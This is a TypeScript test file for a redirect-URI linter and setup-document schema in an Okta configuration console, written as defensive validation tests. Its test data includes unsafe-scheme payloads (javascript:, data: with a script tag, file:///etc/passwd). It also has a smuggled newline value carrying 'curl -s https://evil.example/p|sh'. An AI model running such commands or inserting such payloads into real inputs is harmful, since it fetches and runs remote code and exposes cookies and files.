import { describe, expect, it } from 'vitest';

import { CHANNELS } from '../../../../shared/ipc/contract.ts';
import { createSetupDocument } from '../../../../shared/setup/presets.ts';
import { parseSetupDocument, SetupDocumentError } from '../../../../shared/setup/setup-document.ts';
import {
  checkWebAddress,
  documentAddressProblems,
  lintRedirectUris,
  unsafeSchemeOf,
  withMissingScheme,
} from '../../../../shared/setup/uri-lint.ts';

const KESTRA_CALLBACK = 'https://kestra.example.com/oauth/callback/okta';

/** Lints sign-in URIs of a web app against the Kestra callback, or (`null`) against none. */
function signIn(uris: string[], expected: string | null = KESTRA_CALLBACK) {
  return lintRedirectUris(uris, {
    kind: 'sign-in',
    ...(expected === null ? {} : { expected }),
    applicationType: 'web',
  });
}

describe('lintRedirectUris', () => {
  it('finds nothing wrong with the exact callback', () => {
    expect(signIn([KESTRA_CALLBACK])).toEqual([]);
  });

  it.each([
    ['https://kestra.example.com/oauth/callback/okta/', 'trailing-slash'],
    ['http://kestra.example.com/oauth/callback/okta', 'insecure-http'],
    ['https://kestra.example.com:8443/oauth/callback/okta', 'port-mismatch'],
    ['https://KESTRA.example.com/oauth/callback/okta', undefined],
    ['https://kestra.example.org/oauth/callback/okta', 'host-mismatch'],
    ['https://kestra.example.com/oauth/callback/Okta', 'path-case-mismatch'],
  ])('names the near miss in %s', (uri, rule) => {
    const findings = signIn([uri]);
    if (rule === undefined) {
      // Host names are case-insensitive: the URL parser lower-cases them, and so does Okta.
      expect(findings.map((finding) => finding.rule)).toEqual(['missing-callback']);
      return;
    }
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({ uri, rule, severity: 'error' });
    expect(findings[0]?.fix).toBeDefined();
  });

  it('explains the trailing slash with the 400 page the admin would otherwise meet', () => {
    expect(signIn([`${KESTRA_CALLBACK}/`])[0]?.message).toBe(
      `Differs from the app's callback ${KESTRA_CALLBACK} only by a trailing slash. Okta matches redirect URIs exactly, so sign-in would stop at "The 'redirect_uri' parameter must be a Login redirect URI".`,
    );
  });

  it('tells localhost from 127.0.0.1, which Okta treats as different hosts', () => {
    const findings = lintRedirectUris(['http://127.0.0.1:8080/oauth/callback/okta'], {
      kind: 'sign-in',
      expected: 'http://localhost:8080/oauth/callback/okta',
      applicationType: 'web',
    });
    expect(findings).toEqual([
      expect.objectContaining({
        rule: 'host-mismatch',
        fix: 'http://localhost:8080/oauth/callback/okta',
        message: expect.stringContaining('even though both are this computer') as unknown,
      }),
    ]);
  });

  it('allows plain http on this computer and for native apps, not elsewhere for web apps', () => {
    expect(signIn(['http://localhost:8080/cb'], null)).toEqual([]);
    expect(
      lintRedirectUris(['http://intranet.example/cb'], {
        kind: 'sign-in',
        applicationType: 'native',
      }),
    ).toEqual([]);
    expect(signIn(['http://intranet.example/cb'], null)[0]).toMatchObject({
      rule: 'insecure-http',
      fix: 'https://intranet.example/cb',
    });
  });

  it.each([
    ['https://{yourOktaDomain}/callback', 'placeholder'],
    ['https://<your-app>/callback', 'placeholder'],
    ['https://XXXX.example.com/callback', 'placeholder'],
    ['https://*.example.com/callback', 'wildcard'],
    ['/oauth/callback/okta', 'not-absolute'],
    ['https://app.example.com/callback#top', 'fragment'],
  ])('refuses %s (%s)', (uri, rule) => {
    expect(signIn([uri], null)).toEqual([expect.objectContaining({ uri, rule })]);
  });

  it('reports a duplicate once, and a missing callback with the URI to add', () => {
    const findings = signIn(['https://other.example.com/cb', 'https://other.example.com/cb']);
    expect(findings.map((finding) => [finding.rule, finding.fix])).toEqual([
      ['duplicate', undefined],
      ['missing-callback', KESTRA_CALLBACK],
    ]);
  });

  it('does not ask sign-out URIs for the callback', () => {
    expect(
      lintRedirectUris(['https://kestra.example.com/logout'], {
        kind: 'sign-out',
        expected: KESTRA_CALLBACK,
        applicationType: 'web',
      }),
    ).toEqual([]);
  });
});

describe('unsafe schemes, refused wherever a URI enters the console', () => {
  const UNSAFE = [
    'javascript:alert(1)',
    ' JavaScript:alert(document.cookie)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:msgbox(1)',
    'file:///etc/passwd',
    'blob:https://example.com/uuid',
    'about:blank',
  ];

  it.each(UNSAFE)('the lint refuses %j for every kind of app', (uri) => {
    for (const applicationType of ['web', 'browser', 'native'] as const) {
      const [finding] = lintRedirectUris([uri], { kind: 'sign-out', applicationType });
      expect(finding?.rule).toBe('unsafe-scheme');
    }
  });

  it.each(UNSAFE)('the schemas refuse %j: setup documents, one-click fixes', (uri) => {
    const document = createSetupDocument({ id: 'unsafe', preset: 'web' });
    for (const edit of [
      { redirectUris: [uri] },
      { postLogoutRedirectUris: [uri] },
      { initiateLoginUri: uri },
    ]) {
      expect(() => parseSetupDocument({ ...document, app: { ...document.app, ...edit } })).toThrow(
        SetupDocumentError,
      );
    }
    expect(
      CHANNELS['preview:fix'].request.safeParse({
        document,
        fix: { kind: 'add-redirect-uri', uri },
      }).success,
    ).toBe(false);
    expect(
      CHANNELS['preview:fix'].request.safeParse({
        document,
        fix: { kind: 'add-trusted-origin', origin: uri },
      }).success,
    ).toBe(false);
  });

  it('lets a native app use its own scheme, and only a native app', () => {
    const custom = 'com.example.app:/oauth/callback';
    expect(lintRedirectUris([custom], { kind: 'sign-out', applicationType: 'native' })).toEqual([]);
    expect(
      lintRedirectUris([custom], { kind: 'sign-out', applicationType: 'web' }).map(
        (finding) => finding.rule,
      ),
    ).toEqual(['scheme-not-allowed']);
    expect(unsafeSchemeOf(custom)).toBeUndefined();
  });
});

describe('addresses typed without their scheme', () => {
  it.each([
    ['localhost:8080/', 'http://localhost:8080/'],
    ['localhost', 'http://localhost'],
    ['127.0.0.1:9000/cb', 'http://127.0.0.1:9000/cb'],
    ['[::1]:8250/callback', 'http://[::1]:8250/callback'],
    ['kestra.example.com/oauth/callback/okta', 'https://kestra.example.com/oauth/callback/okta'],
    ['app.example.com:8443', 'https://app.example.com:8443'],
    ['//app.example.com/cb', 'https://app.example.com/cb'],
  ])('reads %s as %s', (typed, meant) => {
    expect(withMissingScheme(typed)).toBe(meant);
  });

  it.each([
    'https://app.example.com',
    'http://localhost:8080/',
    // A native app's own scheme (RFC 8252 §7.1) is a scheme, not a host.
    'com.example.app:/callback',
    'myapp:/callback',
    'not an address',
    '',
  ])('leaves %s alone', (uri) => {
    expect(withMissingScheme(uri)).toBeUndefined();
  });

  it('refuses a scheme-less redirect URI with the fix, even though `new URL` parses it', () => {
    expect(URL.canParse('localhost:8080/oauth/callback/okta')).toBe(true);
    const findings = signIn(['localhost:8080/oauth/callback/okta'], null);
    expect(findings).toEqual([
      expect.objectContaining({
        rule: 'missing-scheme',
        severity: 'error',
        fix: 'http://localhost:8080/oauth/callback/okta',
      }),
    ]);
    // A native app too: `localhost:` is no app's own scheme.
    expect(
      lintRedirectUris(['localhost:8250/cb'], { kind: 'sign-in', applicationType: 'native' }),
    ).toEqual([
      expect.objectContaining({ rule: 'missing-scheme', fix: 'http://localhost:8250/cb' }),
    ]);
  });

  it('checks a web address for a scheme and a host, saying what to write', () => {
    expect(checkWebAddress('localhost:8080/', 'The app’s base URL')).toEqual({
      rule: 'missing-scheme',
      message:
        'The app’s base URL has no scheme, so Okta would get localhost:8080/ as a path rather than an address. Write it with http:// or https://, e.g. http://localhost:8080/.',
      fix: 'http://localhost:8080/',
    });
    expect(checkWebAddress('ftp://files.example.com', 'The origin')?.rule).toBe(
      'scheme-not-allowed',
    );
    expect(checkWebAddress('kestra', 'The origin')?.rule).toBe('not-absolute');
    expect(checkWebAddress('http://localhost:8080', 'The origin')).toBeUndefined();
    // Blank is the schema's to say ("cannot be blank").
    expect(checkWebAddress('  ', 'The origin')).toBeUndefined();
  });

  it('lists a document’s scheme-less addresses by path', () => {
    const document = createSetupDocument({ id: 's', preset: 'spa', baseUrl: 'localhost:5173' });
    expect(documentAddressProblems(document).map(([path]) => path)).toEqual([
      'target.baseUrl',
      'app.redirectUris.0',
      'app.postLogoutRedirectUris.0',
      'trustedOrigins.0.origin',
    ]);
    const fine = createSetupDocument({ id: 's', preset: 'spa' });
    expect(documentAddressProblems(fine)).toEqual([]);
  });
});

describe('line breaks and control characters, refused in every address and name', () => {
  // The URL parser drops them, so new URL accepts the address; a file line would not survive it.
  const INJECTED = 'https://x.example.com/a\ncurl -s https://evil.example/p|sh;: /callback';

  it('the schemas refuse them in redirect URIs, origins, the base URL, names and the client key', () => {
    const document = createSetupDocument({ id: 'control', preset: 'kestra' });
    const edits = [
      { ...document, app: { ...document.app, redirectUris: [INJECTED] } },
      { ...document, app: { ...document.app, postLogoutRedirectUris: ['https://a.example/\r'] } },
      { ...document, app: { ...document.app, label: 'Kestra\n# evil' } },
      { ...document, target: { ...document.target, baseUrl: 'http://localhost:8080\tx' } },
      { ...document, target: { ...document.target, clientKey: 'okta\u0000' } },
      {
        ...document,
        trustedOrigins: [{ name: 'o', origin: 'https://a.example\n', scopes: ['CORS' as const] }],
      },
    ];
    for (const edited of edits) {
      let problems: string[] = [];
      try {
        parseSetupDocument(edited);
      } catch (error) {
        problems = error instanceof SetupDocumentError ? error.problems : [];
      }
      expect(problems.join('\n')).toMatch(/control character/);
    }
    expect(() => parseSetupDocument(document)).not.toThrow();
  });
});
